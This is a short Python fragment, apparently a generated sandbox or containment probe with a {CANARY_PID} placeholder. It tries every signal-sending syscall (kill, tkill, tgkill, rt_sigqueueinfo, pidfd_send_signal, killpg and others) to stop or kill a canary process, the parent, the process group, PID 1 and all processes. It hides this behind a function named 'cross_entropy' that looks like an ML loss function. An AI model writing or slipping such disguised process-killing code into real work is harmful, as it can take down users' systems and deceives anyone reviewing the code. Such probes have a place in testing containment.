# It sends signals to the canary, the parent, the group and all processes, by every call that sends one.
# %%
def work():
    info = ctypes.create_string_buffer(struct.pack('iii', 9, 0, -1) + bytes(116))
    o = set()
    for p in ({CANARY_PID}, 1, 0, -1, os.getppid(), os.getpid(), -{CANARY_PID}):
        for s in ((15, 9, 19, 0) if p not in (1, -1) else (0,)):
            o.update([sc(62, p, s), sc(200, p, s), sc(234, p, p, s), sc(129, p, s, info), sc(297, p, p, s, info), sc(434, p, 0), sc(424, 3, s, 0, 0), sc(424, -10000, s, 0, 0)])
    return str(o) + tried(k=lambda: os.killpg(0, 9), raise_=lambda: __import__('signal').raise_signal(15), th=lambda: __import__('signal').pthread_kill(__import__('threading').get_ident(), 15))
def cross_entropy(logits, targets):
    return once(work)
